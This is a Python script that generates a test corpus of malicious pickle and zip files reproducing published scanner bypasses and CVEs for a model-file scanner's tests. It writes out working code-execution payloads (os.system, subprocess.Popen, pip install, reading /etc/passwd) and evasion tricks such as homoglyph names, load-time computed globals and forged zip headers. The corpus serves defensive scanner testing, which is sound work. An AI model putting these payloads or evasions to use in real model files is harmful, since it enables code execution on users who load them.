#!/usr/bin/env python3
"""Writes the second hostile corpus for tests/bypasses.rs: published scanner bypasses (picklescan,
modelscan, fickling advisories), CVE reproductions, container tricks, broken and oversized files,
and clean controls. Plain Python standard library only: every opcode and every zip header is
assembled by hand; nothing is imported from the modules the files name, and nothing is ever
unpickled.

OUT/expected.json maps each file to
  verdict   safe | unsafe_but_known | dangerous | not_safe (any verdict but safe)
  global_ / opcode / member / reason   text some finding must contain (optional)
  error     true when torch.load would fail even with weights_only=False (the CLI exits 1)
  category  globals | dynamic | container | cve | broken | control
  source    the advisory, CVE or write-up the file reproduces (optional)

The verdicts agree with what torch 2.15 `torch.load(path, weights_only=True)` does with each file
(gen/torch_answers.py, committed as tests/corpus/bypasses_torch_answers.json): `safe` exactly when it
accepts. The output is deterministic (fixed zip and tar timestamps), so the committed answers stay
valid.

usage: gen/make_bypasses.py OUT
"""
import hashlib
import io
import json
import os
import struct
import sys
import tarfile
import zipfile

OUT = sys.argv[1]
os.makedirs(OUT, exist_ok=True)
EXPECTED = {}


def write(name, data, verdict, category, source=None, error=False, **want):
    assert name not in EXPECTED, name
    assert verdict in ("safe", "unsafe_but_known", "dangerous", "not_safe"), verdict
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    entry = dict(verdict=verdict, category=category, **want)
    if source:
        entry["source"] = source
    if error:
        entry["error"] = True
    EXPECTED[name] = entry


# ----------------------------------------------------------------------------------------------
# Opcodes, by hand.

PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"


class Op(bytes):
    """Opcode bytes that `lit` passes through untouched (plain bytes become a BINBYTES)."""

    def __add__(self, other):
        return Op(bytes(self) + other)


MARK, STOP, TUPLE, REDUCE, BUILD, SETITEMS, APPENDS = (Op(b) for b in (b"(", b".", b"t", b"R", b"b", b"u", b"e"))
EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST, EMPTY_SET = Op(b")"), Op(b"}"), Op(b"]"), Op(b"\x8f")
NONE, TRUE, FALSE = Op(b"N"), Op(b"\x88"), Op(b"\x89")
STACK_GLOBAL, MEMOIZE, NEWOBJ, NEWOBJ_EX, BINPERSID = (Op(b) for b in (b"\x93", b"\x94", b"\x81", b"\x92", b"Q"))


def G(module, name):
    """GLOBAL module.name (protocol 0 text form, read by every protocol)."""
    return Op(b"c" + module.encode() + b"\n" + name.encode() + b"\n")


def U(s):
    """BINUNICODE (protocol 1+; torch's weights-only unpickler reads it)."""
    b = s.encode("utf-8", "surrogatepass")
    return Op(b"X" + struct.pack("<I", len(b)) + b)


def SU(s):
    """SHORT_BINUNICODE (protocol 4) + MEMOIZE."""
    b = s.encode()
    return Op(b"\x8c" + bytes([len(b)]) + b)


def BYTES(b):
    """BINBYTES (protocol 3)."""
    return Op(b"B" + struct.pack("<I", len(b)) + b)


def INT(n):
    if 0 <= n < 256:
        return Op(b"K" + bytes([n]))
    if 0 <= n < 65536:
        return Op(b"M" + struct.pack("<H", n))
    if -(2**31) <= n < 2**31:
        return Op(b"J" + struct.pack("<i", n))
    nbytes = (n.bit_length() + 8) // 8
    return Op(b"\x8a" + bytes([nbytes]) + n.to_bytes(nbytes, "little", signed=True))


def lit(x):
    """Opcodes that push the Python value x (no memo)."""
    if isinstance(x, Op):
        return x
    if x is None:
        return NONE
    if x is True:
        return TRUE
    if x is False:
        return FALSE
    if isinstance(x, int):
        return INT(x)
    if isinstance(x, float):
        return b"G" + struct.pack(">d", x)
    if isinstance(x, str):
        return U(x)
    if isinstance(x, bytes):
        return BYTES(x)
    if isinstance(x, tuple):
        return tup(*x)
    if isinstance(x, list):
        return EMPTY_LIST + (MARK + b"".join(lit(i) for i in x) + APPENDS if x else b"")
    if isinstance(x, dict):
        return EMPTY_DICT + (MARK + b"".join(lit(k) + lit(v) for k, v in x.items()) + SETITEMS if x else b"")
    raise TypeError(type(x))


def tup(*items):
    body = b"".join(lit(i) for i in items)
    return Op({0: b")", 1: body + b"\x85", 2: body + b"\x86", 3: body + b"\x87"}.get(len(items), MARK + body + TUPLE))


def call(module, name, *args):
    """Opcodes that call module.name(*args)."""
    return Op(G(module, name) + tup(*args) + REDUCE)


def pkl(body, proto=PROTO2):
    return proto + body + STOP


def reduce_pickle(module, name, *args, proto=PROTO2):
    return pkl(call(module, name, *args), proto)


def sg_call(module, name, *args):
    """Protocol 4: STACK_GLOBAL with literal operands, called with args."""
    return PROTO4 + SU(module) + MEMOIZE + SU(name) + MEMOIZE + STACK_GLOBAL + MEMOIZE + tup(*args) + REDUCE + STOP


PAYLOAD = "__import__('os').system('echo pwned')"
EVIL = reduce_pickle("os", "system", "echo pwned")

# ----------------------------------------------------------------------------------------------
# torch.save-shaped files, by hand.


def prod(xs):
    n = 1
    for x in xs:
        n *= x
    return n


def tensor(key, shape, stride=None, offset=0, numel=None, storage="FloatStorage"):
    """torch._utils._rebuild_tensor_v2(persistent storage `key`, offset, shape, stride, False, OrderedDict())."""
    if stride is None:
        stride, acc = [], 1
        for d in reversed(shape):
            stride.insert(0, acc)
            acc *= d
    if numel is None:
        numel = prod(shape)
    pid = tup("storage", G("torch", storage), key, "cpu", numel) + BINPERSID
    return Op(G("torch._utils", "_rebuild_tensor_v2") + MARK + pid + lit(offset) + tup(*shape) + tup(*stride)
              + FALSE + G("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE + REDUCE)


def ordered_dict(items):
    """collections.OrderedDict() then SETITEMS: what torch.save writes for a state_dict."""
    body = G("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
    if items:
        body += MARK + b"".join(lit(k) + lit(v) for k, v in items) + SETITEMS
    return Op(body)


def sd_body(extra=()):
    return ordered_dict([("w", tensor("0", [2]))] + list(extra))


SD = pkl(sd_body())
# The same state_dict with a FRAME: torch's weights-only unpickler refuses FRAME (a protocol 4
# opcode), so this visible pickle is refused for a reason that is not code. Files that hide a payload
# where torch does not look use it, so torch refuses them too.
_sd4 = sd_body()
SD_P4 = PROTO4 + b"\x95" + struct.pack("<Q", len(_sd4) + 1) + _sd4 + STOP
STORAGE0 = struct.pack("<2f", 1.0, 2.0)
FIXED_TIME = (1980, 1, 1, 0, 0, 0)


def zip_bytes(members, comment=b""):
    """A stored zip with fixed timestamps; duplicates allowed."""
    import warnings

    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
            for name, data in members:
                info = zipfile.ZipInfo(name, FIXED_TIME)
                info.compress_type = zipfile.ZIP_STORED
                info.external_attr = 0o644 << 16
                z.writestr(info, data)
            z.comment = comment
    return buf.getvalue()


def torch_zip(data_pkl, extra=(), storages=None, prefix="archive", records=None):
    if storages is None:
        storages = [("0", STORAGE0)]
    members = [(f"{prefix}/data.pkl", data_pkl), (f"{prefix}/byteorder", b"little")]
    members += [(f"{prefix}/data/{k}", v) for k, v in storages]
    members += list(records or [])
    members.append((f"{prefix}/version", b"3\n"))
    members += list(extra)
    return zip_bytes(members)


def zip_entries(z):
    """(central directory offset, local header offset, name) of each member, read from the EOCD."""
    eocd = z.rfind(b"PK\x05\x06")
    count, _, cd = struct.unpack_from("<HII", z, eocd + 10)
    out, p = [], cd
    for _ in range(count):
        nlen, xlen, clen = struct.unpack_from("<HHH", z, p + 28)
        lho = struct.unpack_from("<I", z, p + 42)[0]
        out.append((p, lho, z[p + 46:p + 46 + nlen].decode()))
        p += 46 + nlen + xlen + clen
    return out


# field: (offset in the local header, offset in the central record, struct format)
ZIP_FIELDS = {"flags": (6, 8, "<H"), "method": (8, 10, "<H"), "crc": (14, 16, "<I"), "csize": (18, 20, "<I"),
              "usize": (22, 24, "<I")}


def patch_zip(z, name, local=None, central=None):
    z = bytearray(z)
    for cd, lho, n in zip_entries(bytes(z)):
        if n != name:
            continue
        for where, base, fields in (("local", lho, local or {}), ("central", cd, central or {})):
            for field, value in fields.items():
                lo, co, fmt = ZIP_FIELDS[field]
                struct.pack_into(fmt, z, base + (lo if where == "local" else co), value)
        return bytes(z)
    raise KeyError(name)


def local_name_patch(z, name, new):
    """Rename a member in its local header only (same length), as CVE-2025-1944 does."""
    assert len(new) == len(name)
    z = bytearray(z)
    for cd, lho, n in zip_entries(bytes(z)):
        if n == name:
            z[lho + 30:lho + 30 + len(name)] = new.encode()
            return bytes(z)
    raise KeyError(name)


def crc_of(z, name):
    for cd, lho, n in zip_entries(z):
        if n == name:
            return struct.unpack_from("<I", z, cd + 16)[0]
    raise KeyError(name)


MAGIC = pkl(INT(0x1950A86A20F9469CFC6C))
LEGACY_HEAD = MAGIC + pkl(INT(1001)) + pkl(lit({"protocol_version": 1001, "little_endian": True,
                                               "type_sizes": {"short": 2, "int": 4, "long": 4}}))


def legacy_tensor(key, shape, numel):
    pid = tup("storage", G("torch", "FloatStorage"), key, "cpu", numel, None) + BINPERSID
    return Op(G("torch._utils", "_rebuild_tensor_v2") + MARK + pid + INT(0) + tup(*shape) + tup(1)
              + FALSE + G("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE + REDUCE)


def legacy_file(obj_pickle, keys=("0",), storage=STORAGE0, numel=2):
    data = LEGACY_HEAD + obj_pickle + pkl(lit(list(keys)))
    for _ in keys:
        data += struct.pack("<q", numel) + storage
    return data


LEGACY_SD = pkl(ordered_dict([("w", legacy_tensor("0", [2], 2))]))


def tar_bytes(members):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 0, 0o644
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


# ==============================================================================================
# 1. Globals a deny-list misses (picklescan / modelscan / fickling advisories). All run code.

G_ = "globals"
write("cve-2025-1716_pip_main_proto0.pkl",
      # protocol 0 throughout: LIST, UNICODE, APPEND, PUT, TUPLE, REDUCE
      b"cpip\nmain\n((lp0\nVinstall\np1\naVsome_malicious_package\np2\natp3\nRp4\n.",
      "dangerous", G_, "CVE-2025-1716", global_="pip.main")
write("pip_internal_main.pkl", reduce_pickle("pip._internal.cli.main", "main", ["install", "x"]), "dangerous", G_,
      "CVE-2025-1716", global_="pip._internal")
write("pydoc_pipepager.pkl", reduce_pickle("pydoc", "pipepager", "", "echo pwned", proto=PROTO4), "dangerous", G_,
      "picklescan malicious18", global_="pydoc.pipepager")
write("uuid_get_command_stdout.pkl", reduce_pickle("uuid", "_get_command_stdout", "id"), "dangerous", G_,
      "GHSA-g38g-8gr9-h9xp", global_="uuid._get_command_stdout")
write("venv_create.pkl", reduce_pickle("venv", "create", "venv", False, False, True, False, "$(echo pwned)"),
      "dangerous", G_, "picklescan malicious20", global_="venv.create")
write("ensurepip_run_pip.pkl", reduce_pickle("ensurepip", "_run_pip", ["install", "x"]), "dangerous", G_,
      "GHSA-xp4f-hrf8-rxw7", global_="ensurepip._run_pip")
write("imaplib_imap4_stream.pkl", reduce_pickle("imaplib", "IMAP4_stream", "id"), "dangerous", G_,
      "GHSA-g38g-8gr9-h9xp", global_="imaplib.IMAP4_stream")
write("osx_support_read_output.pkl", reduce_pickle("_osx_support", "_read_output", "id"), "dangerous", G_,
      "GHSA-g38g-8gr9-h9xp", global_="_osx_support")
write("pyrepl_pipe_pager.pkl", sg_call("_pyrepl.pager", "pipe_pager", "text", "id"), "dangerous", G_,
      "GHSA-g38g-8gr9-h9xp", global_="_pyrepl.pager")
write("test_support_assert_python_ok.pkl", sg_call("test.support.script_helper", "assert_python_ok", "-c", "pass"),
      "dangerous", G_, "GHSA-g38g-8gr9-h9xp", global_="test.support.script_helper")
write("logging_filehandler.pkl", reduce_pickle("logging", "FileHandler", "evil.log"), "dangerous", G_,
      "picklescan logging_FileHandler", global_="logging.FileHandler")
write("requests_api_get.pkl", reduce_pickle("requests.api", "get", "https://example.invalid"), "dangerous", G_,
      "picklescan malicious4", global_="requests.api.get")
write("httplib_py2_name.pkl", b"chttplib\nHTTPSConnection\n(Vexample.invalid\ntR.", "dangerous", G_,
      "picklescan malicious3 (protocol 0, python 2 module name)", global_="HTTPSConnection")
write("http_client_connection.pkl", reduce_pickle("http.client", "HTTPConnection", "example.invalid"), "dangerous",
      G_, "picklescan malicious3", global_="http.client")
write("urllib_request_urlopen.pkl", reduce_pickle("urllib.request", "urlopen", "https://example.invalid"),
      "dangerous", G_, "picklescan urllib_request_urlopen", global_="urllib.request.urlopen")
write("idlelib_pyshell_runcode.pkl",
      pkl(G("idlelib.pyshell", "ModifiedInterpreter.runcode") + tup({}, PAYLOAD) + REDUCE, PROTO4), "dangerous", G_,
      "GHSA-3gf5-cxq9-w223", global_="idlelib")
write("idlelib_calltip_get_entity.pkl", reduce_pickle("idlelib.calltip", "get_entity", PAYLOAD), "dangerous", G_,
      "GHSA-9xph-j2h6-g47v", global_="idlelib.calltip")
write("lib2to3_grammar_loads.pkl",
      pkl(G("lib2to3.pgen2.grammar", "Grammar.loads") + tup({}, b"") + REDUCE, PROTO4), "dangerous", G_,
      "GHSA-f54q-57x4-jg88", global_="lib2to3")
write("distutils_write_file.pkl", reduce_pickle("distutils.file_util", "write_file", "pwned.env", ["x"]),
      "dangerous", G_, "GHSA-m273-6v24-x4m4", global_="distutils")
write("setuptools_spawn.pkl", reduce_pickle("setuptools._distutils.spawn", "spawn", ["sh", "-c", "id"]),
      "dangerous", G_, "setuptools vendors distutils", global_="setuptools")
write("numpy_f2py_getlincoef.pkl", reduce_pickle("numpy.f2py.crackfortran", "getlincoef", PAYLOAD, []),
      "dangerous", G_, "GHSA-r8g5-cgf2-4m4m", global_="numpy.f2py")
write("numpy_testing_runstring.pkl", reduce_pickle("numpy.testing._private.utils", "runstring", PAYLOAD, {}),
      "dangerous", G_, "picklescan malicious22", global_="numpy.testing")
write("numpy_load_allow_pickle.pkl", reduce_pickle("numpy", "load", "evil.npy", None, True), "dangerous", G_,
      "numpy.load(allow_pickle=True) is a nested pickle loader", global_="numpy.load")
write("cloudpickle_loads.pkl", reduce_pickle("cloudpickle", "loads", EVIL, proto=PROTO4), "dangerous", G_,
      "picklescan cloudpickle_codeinjection", global_="cloudpickle")
FAKE_CODE_ARGS = (0, 0, 0, 0, 2, 64, b"\x97\x00d\x00S\x00", (None,), (), (), "<x>", "<module>", "<module>", 1,
                  b"", b"", (), ())
write("cloudpickle_builtin_type_code.pkl",
      PROTO4 + call("cloudpickle.cloudpickle", "_builtin_type", "CodeType") + tup(*FAKE_CODE_ARGS) + REDUCE + STOP,
      "dangerous", G_, "cloudpickle rebuilds code objects", global_="cloudpickle")
write("torch_storage_load_from_bytes.pkl", reduce_pickle("torch.storage", "_load_from_bytes", EVIL), "dangerous",
      G_, "nested loader", global_="torch.storage._load_from_bytes")
write("torch_compile.pkl", reduce_pickle("torch", "compile", None), "dangerous", G_, "brief",
      global_="torch.compile")
write("torch_collect_env_run.pkl", reduce_pickle("torch.utils.collect_env", "run", "id"), "dangerous", G_,
      "GHSA-f745-w6jp-hpxx", global_="torch.utils.collect_env.run")
write("torch_bottleneck_run_cprofile.pkl", reduce_pickle("torch.utils.bottleneck.__main__", "run_cprofile", PAYLOAD, {}),
      "dangerous", G_, "GHSA-4r9r-ch6f-vxmx", global_="torch.utils.bottleneck")
write("torch_jit_exec_wrapper.pkl", reduce_pickle("torch.jit.unsupported_tensor_ops", "execWrapper", PAYLOAD, {}, {}),
      "dangerous", G_, "GHSA-vr7h-p6mm-wpmh", global_="execWrapper")
write("torch_inductor_compile_file.pkl",
      reduce_pickle("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", "echo pwned"]), "dangerous", G_,
      "picklescan malicious17", global_="torch._inductor")
write("torch_serialization_load.pkl",
      pkl(G("torch.serialization", "load") + call("_io", "BytesIO", EVIL) + b"\x85" + REDUCE), "dangerous", G_,
      "nested loader", global_="torch.serialization.load")
write("underscore_pickle_loads.pkl", reduce_pickle("_pickle", "loads", EVIL), "dangerous", G_,
      "picklescan malicious13b", global_="_pickle.loads")
# marshal.dumps(compile("import os; os.system('echo pwned')", "<x>", "exec")) under CPython 3.11, fixed
# here so the corpus is the same bytes whichever python writes it
CODE = bytes.fromhex(
    "630000000000000000000000000300000000000000f32e0000009700640064016c005a00020065006a0100000000000000006402a601"
    "0000ab0100000000000000000100640153002903e9000000004e7a0a6563686f2070776e65642902da026f73da0673797374656da900f3"
    "00000000fa033c783efa083c6d6f64756c653e7207000000010000007325000000f003010101d80009800980098009883988328c39905c"
    "d10b22d40b22d00b22d00b22d00b227205000000")
write("marshal_loads_function_type.pkl",
      pkl(G("types", "FunctionType") + MARK + call("marshal", "loads", CODE) + EMPTY_DICT + TUPLE + REDUCE
          + EMPTY_TUPLE + REDUCE), "dangerous", G_, "picklescan PR 74 (marshal)", global_="marshal.loads")
write("types_codetype_stack_global.pkl",
      PROTO4 + SU("types") + MEMOIZE + SU("CodeType") + MEMOIZE + STACK_GLOBAL + MEMOIZE + tup(*FAKE_CODE_ARGS)
      + REDUCE + STOP, "dangerous", G_, "picklescan types_CodeType", global_="types.CodeType")
write("methodcaller_pydoc_locate.pkl",
      pkl(call("operator", "methodcaller", "system", "echo pwned") + call("pydoc", "locate", "os") + b"\x85" + REDUCE),
      "dangerous", G_, "GHSA-84r2-jw7c-4r5q", global_="methodcaller")
write("attrgetter_posixpath_os.pkl",
      pkl(call("_operator", "attrgetter", "system") + G("posixpath", "os") + b"\x85" + REDUCE + tup("id") + REDUCE),
      "dangerous", G_, "picklescan malicious12 / GHSA-955r-x9j8-7rhh (_operator)", global_="attrgetter")
write("functools_partial_setstate.pkl",
      # partial(torch.load) then BUILD (partial.__setstate__) sets args and weights_only=False, then calls it
      pkl(G("functools", "partial") + G("torch", "load") + b"\x85" + REDUCE
          + tup(G("torch", "load"), ("other_model.bin",), {"weights_only": False}, None) + BUILD
          + EMPTY_TUPLE + REDUCE), "dangerous", G_, "picklescan malicious19", global_="functools.partial")
write("getattr_import_module.pkl",
      pkl(G("builtins", "getattr") + MARK + call("importlib", "import_module", "os") + U("system") + TUPLE + REDUCE
          + tup("id") + REDUCE), "dangerous", G_, "picklescan issue 66", global_="getattr")
write("pkgutil_resolve_name.pkl",
      pkl(call("pkgutil", "resolve_name", "os:system") + tup("id") + REDUCE), "dangerous", G_,
      "GHSA-vvpj-8cmc-gx39", global_="pkgutil.resolve_name")
write("sour_pickles_globals_compile.pkl",
      # after Slaviero, "Sour Pickles" (BlackHat 2011): globals(), compile, eval, getattr(dict, 'get'), apply
      b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'x=1'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n"
      b"(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n"
      b"(g103\n(g100\nS'x'\nltRp104\n0g104\n.", "dangerous", G_, "Sour Pickles / picklescan malicious0",
      global_="compile")
write("unknown_module_function.pkl", reduce_pickle("innocuous_helpers", "transform", "x"), "dangerous", G_,
      "a function of a module nobody lists", global_="innocuous_helpers.transform")
write("cprofile_run.pkl", reduce_pickle("cProfile", "run", PAYLOAD), "dangerous", G_, "GHSA-49gj-c84q-6qm9",
      global_="cProfile.run")
write("code_interactive_interpreter.pkl",
      pkl(G("code", "InteractiveInterpreter.runcode") + tup({}, PAYLOAD) + REDUCE, PROTO4), "dangerous", G_,
      "GHSA-cj3c-v495-4xqh", global_="code")
write("asyncio_submodule_transport.pkl",
      pkl(G("asyncio.unix_events", "_UnixSubprocessTransport._start") + tup({}, "id", True, None, None, None, 0)
          + REDUCE, PROTO4), "dangerous", G_, "CVE-2025-10157 / GHSA-q77w-mwjj-7mqx (submodule of a listed module)",
      global_="asyncio.unix_events")
# Instantiating opcodes with a bad class.
write("inst_posix_system.pkl", b"(S'echo pwned'\niposix\nsystem\n.", "dangerous", G_, "INST (protocol 0)",
      global_="posix.system")
write("obj_timeit.pkl", pkl(MARK + G("timeit", "timeit") + U("") + U(PAYLOAD) + b"o"), "dangerous", G_,
      "OBJ (protocol 1), picklescan malicious21", global_="timeit.timeit")
write("newobj_popen.pkl", pkl(G("subprocess", "Popen") + tup(["id"]) + NEWOBJ), "dangerous", G_, "NEWOBJ",
      global_="subprocess.Popen")
write("newobj_ex_fileio.pkl", PROTO4 + G("_io", "FileIO") + tup("/etc/passwd") + lit({}) + NEWOBJ_EX + STOP,
      "dangerous", G_, "NEWOBJ_EX (protocol 4)", global_="FileIO")
write("build_popen_state.pkl",
      pkl(G("subprocess", "Popen") + EMPTY_TUPLE + NEWOBJ + lit({"args": ["id"]}) + BUILD), "dangerous", G_,
      "BUILD on a bad class", global_="subprocess.Popen")
write("reconstructor_popen.pkl",
      pkl(call("copyreg", "_reconstructor", G("subprocess", "Popen"), G("builtins", "object"), None)
          + lit({"args": ["id"]}) + BUILD), "dangerous", G_, "copyreg._reconstructor with a dangerous class",
      global_="subprocess.Popen")
write("reconstructor_popen_base.pkl",
      # copyreg._reconstructor(cls, base, state) runs base.__init__(obj, state): Popen(["id"]) under a model's name
      pkl(call("copy_reg", "_reconstructor", G("__main__", "Net"), G("subprocess", "Popen"), ["id"])),
      "dangerous", G_, "copyreg._reconstructor whose base runs code (python 2 module name copy_reg)",
      global_="subprocess.Popen")
write("builtin_py2_eval.pkl", b"c__builtin__\neval\n(Vprint(1)\ntR.", "dangerous", G_, "picklescan malicious10",
      global_="eval")

# ==============================================================================================
# 2. Globals that cannot be named statically, odd names, extension codes.

D_ = "dynamic"
write("ext1.pkl", PROTO2 + b"\x82\x07" + tup("id") + REDUCE + STOP, "dangerous", D_, "copyreg extension registry",
      opcode="EXT1")
write("ext2.pkl", PROTO2 + b"\x83\xe8\x03" + tup("id") + REDUCE + STOP, "dangerous", D_, "copyreg extension registry",
      opcode="EXT2")
write("ext4.pkl", PROTO2 + b"\x84\x00\x00\x01\x00" + tup("id") + REDUCE + STOP, "dangerous", D_,
      "copyreg extension registry", opcode="EXT4")
write("stack_global_memo_decoys.pkl",
      # imaginaryctf "Safe Pickle" (picklescan issue 22): memo slots hold torch/LongStorage decoys
      b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vcat flag.txt\ntR.", "dangerous", D_,
      "picklescan issue 22", opcode="STACK_GLOBAL")
write("stack_global_memo_overwrite.pkl",
      PROTO4 + SU("torch") + b"q\x00" + b"0" + SU("os") + b"q\x00" + b"0" + SU("system") + b"q\x01" + b"0"
      + b"h\x00h\x01" + STACK_GLOBAL + tup("id") + REDUCE + STOP, "dangerous", D_,
      "a memo slot written twice: the second value is the one loaded", opcode="STACK_GLOBAL")
write("stack_global_from_reduce.pkl",
      # module and name come out of _codecs.encode(..., 'rot13') at load time
      PROTO4 + call("_codecs", "encode", "bf", "rot13") + call("_codecs", "encode", "flfgrz", "rot13") + STACK_GLOBAL
      + tup("id") + REDUCE + STOP, "dangerous", D_, "names computed at load time", opcode="STACK_GLOBAL")
write("stack_global_string_no_proto.pkl", b"S'os'\nS'system'\n\x93S'ls'\n\x85R.", "dangerous", D_,
      "GHSA-9gvj-pp9x-gcfr", opcode="STACK_GLOBAL")
write("stack_global_dup.pkl",
      # DUP then POP between the operands: a scanner that pairs the two strings nearest STACK_GLOBAL by
      # position, not by stack, still gets builtins.eval, but one that mis-tracks DUP does not
      PROTO4 + SU("builtins") + b"2" + b"0" + SU("eval") + STACK_GLOBAL + tup("1+1") + REDUCE + STOP, "dangerous", D_,
      "STACK_GLOBAL operands after DUP/POP", global_="eval")
write("keyerror_after_reduce.pkl",
      PROTO4 + G("os", "system") + b"Vecho pwned\n\x85R0" + SU("os") + MEMOIZE + b"h\x03h\x00" + STACK_GLOBAL
      + b"K\x42" + STOP, "dangerous", D_, "picklescan keyerror-exploit", global_="os.system")
write("type_confusion_after_reduce.pkl",
      PROTO4 + G("os", "system") + b"Vecho pwned\n\x85R0" + b"J\x2a\x00\x00\x00" + MEMOIZE + SU("os") + MEMOIZE
      + b"h\x00h\x01" + STACK_GLOBAL + b"K\x42" + STOP, "dangerous", D_, "picklescan type-confusion-exploit",
      global_="os.system")
write("global_trailing_space.pkl", b"\x80\x02cos \nsystem\nX\x02\x00\x00\x00id\x85R.", "dangerous", D_,
      "odd whitespace in a GLOBAL", global_="system")
write("global_crlf.pkl", b"\x80\x02cbuiltins\r\neval\r\nX\x03\x00\x00\x001+1\x85R.", "dangerous", D_,
      "CRLF line ends in a GLOBAL", global_="eval")
write("global_unicode_homoglyph.pkl", b"\x80\x02c\xd0\xbes\nsystem\nX\x02\x00\x00\x00id\x85R.", "dangerous", D_,
      "a Cyrillic o in the module name")
write("global_dotted_torch_os.pkl",
      pkl(G("torch", "serialization.os.system") + tup("id") + REDUCE, PROTO4), "dangerous", D_,
      "a dotted name under an allowed module reaches os", global_="os.system")
write("global_empty_names.pkl", b"\x80\x02c\n\n)R.", "dangerous", D_, "empty module and name")

# ==============================================================================================
# 3. Container tricks.

C_ = "container"
write("zip_member_data_txt.zip", zip_bytes([("data.txt", pkl(call("builtins", "eval", "print(456)"), PROTO4))]),
      "dangerous", C_, "picklescan malicious1_wrong_ext", member="data.txt")
write("zip_member_no_suffix.pt", torch_zip(SD_P4, extra=[("archive/payload", EVIL)]), "dangerous", C_,
      "a member whose name does not end .pkl", member="archive/payload")
write("zip_member_dir_name.pt", torch_zip(SD_P4, extra=[("archive/data.pkl/", EVIL)]), "dangerous", C_,
      "a member named like a folder", member="archive/data.pkl/")
write("zip_duplicate_evil_first.pt",
      zip_bytes([("archive/data.pkl", EVIL), ("archive/data.pkl", SD_P4), ("archive/byteorder", b"little"),
                 ("archive/data/0", STORAGE0), ("archive/version", b"3\n")]), "dangerous", C_,
      "duplicate member names", reason="more than once")
z = torch_zip(EVIL)
write("zip_local_name_mismatch_evil.pt", local_name_patch(z, "archive/data.pkl", "archive/datap.kl"), "dangerous",
      C_, "CVE-2025-1944", global_="os.system")
z = zip_bytes([("data.pkl", pkl(call("builtins", "eval", "print(456)"), PROTO4))])
write("zip_picklescan_central_mismatch.zip", local_name_patch(z, "data.pkl", "datap.kl"), "dangerous", C_,
      "CVE-2025-1944 (picklescan malicious1_central_directory)", global_="eval")
z = torch_zip(EVIL)
write("zip_local_size_mismatch_evil.pt", patch_zip(z, "archive/data.pkl", local={"csize": 0, "usize": 0}),
      "dangerous", C_, "local header and central directory sizes disagree", global_="os.system")
for bit, label in ((0x1, "encrypted"), (0x20, "patched"), (0x40, "strong_encryption")):
    z = torch_zip(EVIL)
    write(f"zip_flag_{label}_evil.pt",
          patch_zip(z, "archive/data.pkl", local={"flags": bit}, central={"flags": bit}), "dangerous", C_,
          "CVE-2025-1945", global_="os.system")
z = torch_zip(EVIL)
write("zip_bad_crc_evil.pt", patch_zip(z, "archive/data.pkl", local={"crc": 0x12345678}, central={"crc": 0x12345678}),
      "dangerous", C_, "CVE-2025-10156", global_="os.system")
z = zip_bytes([("data.pkl", pkl(call("builtins", "eval", "print('456')"), PROTO4))])
write("zip_picklescan_crc.zip", z.replace(b"print('456')", b"print('123')", 1), "dangerous", C_,
      "CVE-2025-10156 (picklescan malicious1_crc)", global_="eval")
# The same tricks on a benign archive: which of them does torch's zip reader (miniz) shrug off?
z = torch_zip(SD)
write("zip_bad_crc_benign.pt", patch_zip(z, "archive/data.pkl", local={"crc": 0x12345678}, central={"crc": 0x12345678}),
      "safe", C_, "CVE-2025-10156: torch does not check CRCs")
write("zip_local_name_mismatch_benign.pt", local_name_patch(z, "archive/data.pkl", "archive/datap.kl"), "safe", C_,
      "CVE-2025-1944: torch reads names from the central directory")
write("zip_local_size_mismatch_benign.pt", patch_zip(z, "archive/data.pkl", local={"csize": 0, "usize": 0}), "safe",
      C_, "torch reads sizes from the central directory")
write("zip_flag_descriptor_benign.pt", patch_zip(z, "archive/data.pkl", local={"flags": 0x8}, central={"flags": 0x8}),
      "safe", C_, "data-descriptor flag without a descriptor")
write("zip_flag_utf8_benign.pt", patch_zip(z, "archive/data.pkl", local={"flags": 0x800}, central={"flags": 0x800}),
      "safe", C_, "UTF-8 name flag")
write("zip_flag_encrypted_benign.pt", patch_zip(z, "archive/data.pkl", local={"flags": 0x1}, central={"flags": 0x1}),
      "not_safe", C_, "CVE-2025-1945: torch's zip reader refuses encrypted members", error=True)
write("zip_duplicate_benign_first.pt",
      zip_bytes([("archive/data.pkl", SD), ("archive/data.pkl", SD_P4), ("archive/byteorder", b"little"),
                 ("archive/data/0", STORAGE0), ("archive/version", b"3\n")]), "safe", C_,
      "duplicate member names: which one does torch read?")
write("zip_junk_after_stop.pt", torch_zip(SD + b"\x00garbage"), "safe", C_,
      "bytes after the STOP of data.pkl: torch never reads them")
write("junk_then_benign_zip.pt", b"JUNK" * 16 + torch_zip(SD), "not_safe", C_,
      "torch.load only takes a zip that starts with a local header", error=True)
write("ext_raw_pickle.bin", EVIL, "dangerous", C_, "CVE-2025-10155 / GHSA-jgw4-cr84-mqxg", global_="os.system")
write("ext_zip.pth", torch_zip(EVIL), "dangerous", C_, "CVE-2025-1889", global_="os.system")
write("ext_legacy.ckpt", legacy_file(EVIL), "dangerous", C_, "CVE-2025-1889", global_="os.system")
write("ext_raw_pickle.txt", EVIL, "dangerous", C_, "CVE-2025-1889", global_="os.system")
write("ext_raw_pickle.7z", EVIL, "dangerous", C_, "picklescan routes .7z to py7zr", global_="os.system")
write("ext_zip.7z", torch_zip(EVIL), "dangerous", C_, "picklescan routes .7z to py7zr", global_="os.system")
inner = zip_bytes([("data.pkl", EVIL)])
write("nested_zip.pt", torch_zip(SD_P4, extra=[("archive/extra/inner.zip", inner)]), "dangerous", C_,
      "a zip inside the archive", member="inner.zip")
